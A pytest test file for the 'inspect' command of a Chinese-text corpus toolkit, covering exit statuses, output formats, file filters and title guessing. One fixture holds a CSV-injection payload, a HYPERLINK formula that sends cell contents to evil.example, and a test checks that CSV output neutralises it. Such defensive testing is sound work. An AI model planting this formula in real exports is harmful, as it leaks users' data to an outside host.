"""`corpus-tools inspect` and the exit statuses every command shares."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from corpus_tools.cli import cli


def _run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.stdout, result.stderr


def test_inspect_seeds_lists_five(seeds_dir: Path) -> None:
    code, out, err = _run("inspect", str(seeds_dir), "--format", "json")
    assert code == 0, err
    data = json.loads(out)
    assert len(data["documents"]) == 5
    assert data["errors"] == []
    first = data["documents"][0]
    assert {"doc_id", "title", "chars", "paragraphs", "sections", "placeholders"} <= set(first)
    by_id = {d["doc_id"]: d for d in data["documents"]}
    # every run of X in seed 000 is a blank (XX区, X个, 第X批 ...): 45 runs, read off by hand
    assert by_id["000_14cdbf6256da471f.txt"]["placeholders"] == 45


def test_inspect_split_lines_gives_nine(seeds_dir: Path) -> None:
    path = next(seeds_dir.glob("003_*.txt"))
    code, out, _ = _run("inspect", str(path), "--split", "lines", "--format", "json")
    assert code == 0
    ids = [d["doc_id"] for d in json.loads(out)["documents"]]
    assert ids == [f"{path.name}:{i}" for i in range(1, 10)]


def test_bad_files_named_on_stderr_exit_3(tmp_path: Path, seeds_dir: Path) -> None:
    for p in seeds_dir.glob("00[12]_*.txt"):
        shutil.copy(p, tmp_path / p.name)
    (tmp_path / "empty.txt").write_bytes(b"")
    (tmp_path / "binary.txt").write_bytes(bytes(range(256)) * 8)
    (tmp_path / "broken.docx").write_bytes(b"PK\x03\x04garbage")
    code, out, err = _run("inspect", str(tmp_path), "--format", "json")
    assert code == 3
    data = json.loads(out)
    assert sorted(d["doc_id"] for d in data["documents"]) == sorted(
        p.name for p in seeds_dir.glob("00[12]_*.txt")
    )
    for name in ("empty.txt", "binary.txt", "broken.docx"):
        assert name in err
    assert {Path(e["path"]).name for e in data["errors"]} == {
        "empty.txt",
        "binary.txt",
        "broken.docx",
    }


def test_nothing_readable_exit_4(tmp_path: Path) -> None:
    (tmp_path / "empty.txt").write_bytes(b"")
    code, _, err = _run("inspect", str(tmp_path))
    assert code == 4
    assert "no readable document" in err


def test_usage_error_exit_2(tmp_path: Path) -> None:
    code, _, err = _run("inspect", "data/raw", "--format", "yaml")
    assert code == 2
    assert "Invalid value for '--format'" in err
    code, _, err = _run("inspect", str(tmp_path / "no-such-folder"))
    assert code == 2
    assert "does not exist" in err


def test_table_and_csv_formats(seeds_dir: Path) -> None:
    code, out, _ = _run("inspect", str(seeds_dir), "--format", "table")
    assert code == 0
    lines = out.splitlines()
    assert lines[0].split()[:3] == ["doc_id", "title", "chars"]
    assert any("县委组织部党建工作融入社区为民服务工作情况报告" in ln for ln in lines)
    code, out, _ = _run("inspect", str(seeds_dir), "--format", "csv")
    assert out.splitlines()[0].startswith("doc_id,title,chars")
    assert len(out.splitlines()) == 6


def test_console_script_is_installed(seeds_dir: Path) -> None:
    exe = Path(sys.executable).parent / "corpus-tools"
    proc = subprocess.run(
        [str(exe), "inspect", str(seeds_dir)], capture_output=True, text=True, check=False
    )
    assert proc.returncode == 0, proc.stderr
    # piped: JSON by default
    assert len(json.loads(proc.stdout)["documents"]) == 5


def test_unwritable_output_exits_4_and_closed_pipe_is_quiet(seeds_dir: Path) -> None:
    exe = Path(sys.executable).parent / "corpus-tools"
    if not Path("/dev/full").exists():
        return
    with open("/dev/full", "w") as full:
        proc = subprocess.run(
            [str(exe), "inspect", str(seeds_dir)], stdout=full, stderr=subprocess.PIPE, check=False
        )
    assert proc.returncode == 4
    assert b"cannot write the output" in proc.stderr
    pipe = subprocess.run(
        f"'{exe}' segment '{seeds_dir}' --format jsonl | head -c 10 > /dev/null",
        shell=True,
        stderr=subprocess.PIPE,
        check=False,
    )
    assert b"Traceback" not in pipe.stderr


def test_national_reports_keep_their_given_titles() -> None:
    from conftest import corpus_file, iter_records

    import corpus_tools as ct

    path = corpus_file("state_council_gwr")
    if path is None:
        pytest.skip("state_council_gwr absent")
    given = {r["id"]: r["title"] for r in iter_records("state_council_gwr")}
    # the folder: its SOURCE.md is not a report
    code, out, err = _run("inspect", str(path.parent), "--format", "json")
    assert code == 0, err
    docs = json.loads(out)["documents"]
    assert {d["doc_id"]: d["title"] for d in docs} == given  # 49 of 137 were replaced
    by_id = {d["doc_id"]: d for d in docs}
    for doc_id in ("cpc-9-ws", "cpc-10-ws", "cpc-11-ws"):
        assert by_id[doc_id]["guessed_title"] == "同志们！"
        assert by_id[doc_id]["title"].startswith("在中国共产党第")
    # the library: the given title kept, the guess beside it, text columns as strings
    corpus = ct.load_corpus(path).documents
    table = ct.inspect(corpus)
    assert table["title"].tolist() == corpus["title"].tolist()
    assert table["guessed_title"].dtype == ct.io.STRING_DTYPE
    assert table["title"].dtype == ct.io.STRING_DTYPE
    # the corpus's own "chars" field is kept beside the computed one
    assert table["corpus_chars"].tolist() == corpus["chars"].tolist()
    assert str(table["congress"].dtype) == "Int64"


def test_inspect_without_a_title_column_guesses_beside_it(seed_corpus: object) -> None:
    import pandas as pd

    import corpus_tools as ct

    assert isinstance(seed_corpus, pd.DataFrame)
    bare = seed_corpus[["doc_id", "text"]]
    table = ct.inspect(bare)
    assert table["title"].isna().all()
    guessed = dict(zip(table["doc_id"], table["guessed_title"], strict=True))
    assert guessed["004_4ba3fb77ef7e832c.txt"] == "县委组织部党建工作融入社区为民服务工作情况报告"
    assert list(bare.columns) == ["doc_id", "text"]  # the caller's frame is not changed


def test_include_and_exclude_choose_files(tmp_path: Path, seeds_dir: Path) -> None:
    for p in seeds_dir.glob("*.txt"):
        shutil.copy(p, tmp_path / p.name)
    (tmp_path / "README.md").write_text("# 说明\n样本报告五篇。", encoding="utf-8")
    code, out, err = _run("inspect", str(tmp_path), "--format", "json")
    assert code == 0, err
    assert len(json.loads(out)["documents"]) == 5  # README.md is not a report
    code, out, err = _run(
        "inspect", str(tmp_path), "--include", "00[0-2]_*", "--exclude", "001_*", "--format", "json"
    )
    assert code == 0, err
    ids = [d["doc_id"] for d in json.loads(out)["documents"]]
    assert ids == ["000_14cdbf6256da471f.txt", "002_fcffc313e2c7ef3d.txt"]
    code, _, err = _run("inspect", str(tmp_path), "--exclude", "*.txt")
    assert code == 4
    assert "5 file(s) left out by include=/exclude=" in err
    assert "1 documentation file(s)" in err and "(README.md)" in err
    # a streamed command takes them too
    out_file = tmp_path / "kw.csv"
    code, out, err = _run(
        "keywords", str(tmp_path), "--include", "004_*", "-o", str(out_file), "--no-cache"
    )
    assert code == 0, err
    assert json.loads(out)["documents"] == 1


def test_a_wrong_text_field_is_one_line_with_the_fields_found() -> None:
    from conftest import corpus_file

    path = corpus_file("state_council_gwr")
    if path is None:
        pytest.skip("state_council_gwr absent")
    code, _, err = _run("inspect", str(path), "--text-field", "body")
    assert code == 4
    lines = err.splitlines()
    assert len(lines) == 2, lines  # one for the file (not one per record), one for the run
    assert "no record has a field 'body' (137 records)" in lines[0]
    assert "'id', 'title', 'text'" in lines[0]
    assert lines[1] == (
        "corpus-tools: error: no readable document in the inputs "
        "(each input above could not be read)"
    )
    code, _, err = _run("dedup", str(path), "--text-field", "body")
    assert code == 4 and len(err.splitlines()) == 2, err


ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


@pytest.fixture
def titled(tmp_path: Path, seed_texts: dict[str, str]) -> Path:
    """Two seed reports as records, one titled with a formula an attacker planted."""
    names = sorted(seed_texts)[:2]
    recs = [
        {"id": "a", "title": ATTACK, "text": seed_texts[names[0]]},
        {"id": "b", "title": "-关于党建工作的报告", "text": seed_texts[names[1]]},
    ]
    path = tmp_path / "titled.jsonl"
    path.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in recs), encoding="utf-8")
    return path


def test_csv_output_cannot_run_formulas(titled: Path) -> None:
    import csv
    import io

    code, out, err = _run("inspect", str(titled), "--format", "csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["title"] for r in rows] == ["'" + ATTACK, "'-关于党建工作的报告"]
    assert rows[0]["chars"].isdigit()  # numbers stay numbers
    code, out, _ = _run("inspect", str(titled), "--format", "csv", "--raw-cells")
    assert next(r["title"] for r in csv.DictReader(io.StringIO(out))) == ATTACK
    code, out, _ = _run("inspect", str(titled), "--format", "json")
    assert json.loads(out)["documents"][0]["title"] == ATTACK  # JSON is data: unchanged


def test_every_table_output_writes_xlsx(titled: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "table.xlsx"
    code, _, err = _run("keywords", str(titled), "-o", str(out), "--no-cache")
    assert code == 0, err
    sheet = load_workbook(out).active
    assert sheet is not None
    header = [c.value for c in next(sheet.iter_rows())]
    assert header[:3] == ["term", "count", "doc_freq"]
    assert sheet.max_row > 100
    occ = tmp_path / "occ.xlsx"
    code, _, err = _run("slogans", str(titled), "--occurrences", str(occ), "--format", "json")
    assert code == 0, err
    assert load_workbook(occ).active is not None
    code, _, err = _run("keywords", str(titled), "-o", str(tmp_path / "t.ods"))
    assert code == 2 and ".xlsx" in err


def test_an_unexpected_error_is_one_line_and_exit_5(
    seeds_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import corpus_tools.text as cli_inspect  # the command imports inspect from it when it runs

    def broken(corpus: object) -> None:
        raise RuntimeError("something the toolkit did not foresee")

    monkeypatch.setattr(cli_inspect, "inspect", broken)
    code, _out, err = _run("inspect", str(seeds_dir))
    assert code == 5  # never 1, which 'flag' uses for "flagged"
    assert err.splitlines() == [
        "corpus-tools: internal error: RuntimeError: something the toolkit did not foresee "
        "(a bug in corpus-tools; rerun with --debug for the traceback)"
    ]
    for args in (["--debug", "inspect", str(seeds_dir)], ["inspect", str(seeds_dir), "--debug"]):
        code, _, err = _run(*args)
        assert code == 5
        assert "Traceback (most recent call last)" in err and "RuntimeError" in err
    monkeypatch.setenv("CORPUS_TOOLS_DEBUG", "1")
    code, _, err = _run("inspect", str(seeds_dir))
    assert code == 5 and "Traceback" in err


def test_errors_no_command_caught_keep_their_own_status(
    seeds_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import click

    import corpus_tools.text as cli_inspect  # the command imports inspect from it when it runs
    from corpus_tools.errors import IndexFormatError, InvalidParameterError

    for exc, status in [
        (InvalidParameterError("The 'x' parameter of f must be 1. Got 2 instead."), 2),
        (IndexFormatError("index is corrupt"), 4),
        (click.ClickException("click's generic error"), 2),  # its own status 1 is "flagged"
        (OSError(5, "Input/output error", "/data/x.txt"), 4),
    ]:

        def raising(corpus: object, exc: BaseException = exc) -> None:
            raise exc

        monkeypatch.setattr(cli_inspect, "inspect", raising)
        code, _, err = _run("inspect", str(seeds_dir))
        assert code == status, (exc, err)
        assert len(err.splitlines()) == 1 and "Traceback" not in err
